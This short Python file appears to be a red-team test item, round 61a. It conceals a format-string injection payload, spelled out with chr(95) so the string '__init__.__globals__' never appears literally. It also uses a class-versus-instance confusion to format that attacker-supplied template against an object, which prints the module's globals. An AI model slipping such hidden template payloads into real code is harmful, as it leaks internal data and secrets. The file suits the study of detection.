# family: red team, round 61a (x = R() and R: x taken as an object of R, but is the class; x.render(ns) runs with self a SimpleNamespace whose T is a run-time template)
from types import SimpleNamespace

U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


class R:
    T = "{0.v}"

    def render(self, obj):
        return self.T.format(obj)


x = R() and R
print(x.render(SimpleNamespace(T=EVIL), K()))
